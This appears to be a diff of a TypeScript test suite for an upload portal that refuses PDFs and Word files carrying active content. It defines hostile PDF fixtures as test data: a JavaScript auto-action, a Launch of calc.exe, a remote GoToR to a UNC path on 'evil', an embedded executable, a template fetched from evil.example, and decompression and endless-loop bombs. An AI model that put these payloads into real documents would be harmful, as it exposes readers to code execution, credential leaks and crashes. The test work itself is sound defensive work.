@@ -22,14 +22,20 @@ it.each<[what: string, objects: (string | Buffer)[]]>([
     ['3 0 obj <</OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>>>> endobj\n'],
   ],
   ['writes the name in signs by number', ['3 0 obj <</S/J#61vaScr#69pt/J#53 4 0 R>> endobj\n']],
-  ['has scripts under names', ['3 0 obj <</Names <</JavaScript 4 0 R>>>> endobj\n']],
+  [
+    'has scripts under names',
+    ['3 0 obj <</Names <</JavaScript 4 0 R>>>> endobj\n4 0 obj <</Names[(a) 5 0 R]>> endobj\n'],
+  ],
   ['starts a program', ['3 0 obj <</S/Launch/F(calc.exe)>> endobj\n']],
-  ['acts when a page is shown', ['3 0 obj <</Type/Page/AA <</O 4 0 R>>>> endobj\n']],
-  ['carries a file', ['3 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj\n']],
+  [
+    'acts when a page is shown',
+    ['3 0 obj <</Type/Page/AA <</O 4 0 R>>>> endobj\n4 0 obj <</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>> endobj\n'],
+  ],
+  ['carries a program', ['3 0 obj <</Type/EmbeddedFile/Length 2>> stream\nMZ\nendstream endobj\n']],
   ['hides its script among packed objects', [packed('<</S/JavaScript/JS(x)>>')]],
   [
     'hides it in a stream that does not say what it is',
-    [packed('<</AA 3 0 R>>', '/N 1/First 4/Filter[/Fl]')],
+    [packed('<</AA <</O <</S/URI/URI(https://evil.example)>>>>>>', '/N 1/First 4/Filter[/Fl]')],
   ],
   [
     'hides it where an object looks like a picture',
@@ -44,10 +50,44 @@ it.each<[what: string, objects: (string | Buffer)[]]>([
 })
 
 it('a PDF whose packed objects cannot be looked into is refused with a sentence of its own', async () => {
-  const bytes = pdf('x', [packed('<<>>', '/Type/ObjStm/N 1/First 4/Filter/LZWDecode')])
+  const bytes = pdf('x', [packed('<<>>', '/Type/ObjStm/N 1/First 4/Filter/JBIG2Decode')])
   const { status, body } = await send(world, bytes, person, { language: 'en' })
   expect([status, body.code]).toEqual([422, 'unreadableContent'])
-  expect(body.message).toContain('Print it to PDF without protection')
+  expect(body.message).toContain(
+    'compressed in an unknown way, so it cannot be checked what it contains. Open it, print it to PDF',
+  )
+})
+
+it('the refusal names what was found and says what to do, in the language of whoever sent it; the audit has no names', async () => {
+  const attached = [
+    '3 0 obj <</Type/Filespec/UF<feff041f0440043e04310430002e006500780065>/EF <</F 4 0 R>>>> endobj\n',
+    '4 0 obj <</Length 1>> stream\nx\nendstream endobj\n',
+  ]
+  const said = async (bytes: Buffer, language: string) =>
+    (await send(world, bytes, person, { language })).body.message
+  expect(await said(pdf('x', attached), 'bg')).toBe(
+    'Документът носи прикачена програма „Проба.exe“. Премахнете прикачения файл и качете документа отново.',
+  )
+  const fetched = docx(relations(['attachedTemplate', 'https://evil.example/x.dotm']))
+  expect(await said(fetched, 'en')).toBe(
+    'The document fetches its template from elsewhere “https://evil.example/x.dotm” when it is opened. Save it as a PDF (File → Save as → PDF) and upload the new file.',
+  )
+  const { rows } = await world.owner.query(`select from audit_entry where audit_entry::text ~ 'Проба|evil'`)
+  expect(rows).toHaveLength(0)
+})
+
+it('what is signed is never to be printed, whatever is found in it', async () => {
+  const signature = '5 0 obj <</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>> endobj\n'
+  const found = [
+    '3 0 obj <</OpenAction <</S/JavaScript/JS(x)>>>> endobj\n',
+    packed('<<>>', '/Type/ObjStm/N 1/First 4/Filter/JBIG2Decode'),
+    '3 0 obj <</S/Launch/F(a.exe)>> endobj\n',
+  ]
+  for (const object of found)
+    for (const language of ['bg', 'en']) {
+      const { body } = await send(world, pdf('x', [signature, object]), person, { language })
+      expect(body.message).toMatch(/не го отпечатвайте|do not print it/)
+    }
 })
 
 it('a PDF that only says where it opens, links to pages and speaks of scripts is taken', async () => {
@@ -74,8 +114,8 @@ it('a text document with links is taken; one that fetches anything by itself is 
   for (const relation of hostile)
     expect(await outcome(docx(relations(relation))), relation[0]).toBe('activeContent')
   expect(await outcome(docx({ 'word/embeddings/oleObject1.bin': new Uint8Array(3) }))).toBe('activeContent')
-  const encoded = Buffer.from('<Relationships></Relationships>', 'utf16le')
-  expect(await outcome(docx({ 'word/_rels/settings.xml.rels': encoded }))).toBe('unreadableContent')
+  const typed = Buffer.from('<!DOCTYPE a><Relationships></Relationships>')
+  expect(await outcome(docx({ 'word/_rels/settings.xml.rels': typed }))).toBe('unreadableContent')
 })
 
 it('a file of 20 MB made to be slow to read is refused in time', async () => {
@@ -91,6 +131,27 @@ it.each<[what: string, body: () => Buffer | string]>([
     'millions of names',
     () =>
       `3 0 obj <<${Array.from({ length: 2_000_000 }, (_, n) => `/${n.toString(36)} 1`).join('')}>> endobj\n`,
+  ],
+  [
+    'a stream in base 85 that becomes four times as long',
+    () =>
+      `3 0 obj <</Type/ObjStm/N 1/First 4/Filter/A85>> stream\n${'z'.repeat(19_000_000)}~>\nendstream endobj\n`,
+  ],
+  [
+    'streams that unpack to mountains',
+    () => {
+      const one = packed(' '.repeat(30_000_000), '/Type/ObjStm/N 1/First 4/Filter/Fl')
+      return Buffer.concat(Array<Buffer>(100).fill(one))
+    },
+  ],
+  ['streams without an end', () => '3 0 obj <</Type/ObjStm/N 1/First 4>> stream\n'.repeat(250_000)],
+  [
+    'actions that follow each other without an end',
+    () =>
+      Array.from(
+        { length: 250_000 },
+        (_, n) => `${n + 3} 0 obj <</OpenAction ${n + 4} 0 R/Next ${n + 4} 0 R>> endobj\n`,
+      ).join(''),
   ],
 ])('a PDF of %s has an answer, and the portal lives', async (_, body) => {
   expect(await outcome(pdf('x', [body()]))).toMatch(/^(?:taken|tooHardToRead|unreadableContent)$/)
